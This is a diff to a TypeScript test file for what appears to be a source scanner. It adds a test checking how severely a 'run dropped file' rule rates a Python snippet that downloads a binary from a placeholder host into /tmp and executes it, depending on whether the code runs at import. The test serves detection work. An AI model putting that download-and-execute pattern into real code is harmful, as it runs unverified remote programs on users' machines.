@@ -6,7 +6,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { Rulebook } from '../../src/analyze/rulebook/rulebook.js';
 import type { Rule } from '../../src/analyze/rulebook/rule.js';
-import { SourceScanner, type RuleHit } from '../../src/analyze/source-scan.js';
+import { SourceScanner, severityOf, type RuleHit } from '../../src/analyze/source-scan.js';
 import { checkMetadata, checkScripts, checkTopLevel } from '../../src/analyze/artifact-rules.js';
 import type { ArtifactMetadata } from '../../src/analyze/subjects.js';
 import { fileRole } from '../../src/analyze/context.js';
@@ -68,3 +68,17 @@ for (const { rule } of book.rules) {
     }
   });
 }
+
+test('a dropper is critical at import time and high in a function that runs only when called', () => {
+  const dropper = (body: string): string[] => {
+    const rule = book.get('code.run-dropped-file')!.rule;
+    return hitsFor(rule, body)
+      .filter((h) => h.rule.id === 'code.run-dropped-file')
+      .map((h) => severityOf(h));
+  };
+  const fetchAndRun = 'urllib.request.urlretrieve("https://example.invalid/tool", "/tmp/tool")\nsubprocess.run(["/tmp/tool", "--version"])';
+  assert.deepEqual(dropper(`import subprocess, urllib.request\n${fetchAndRun}`), ['critical']);
+  const inFunction = `import subprocess, urllib.request\ndef profile():\n${fetchAndRun.replace(/^/gm, '    ')}`;
+  assert.deepEqual(dropper(inFunction), ['high']);
+  assert.deepEqual(dropper(`${inFunction}\nprofile()`), ['critical'], 'a function the module calls on import runs at import time');
+});
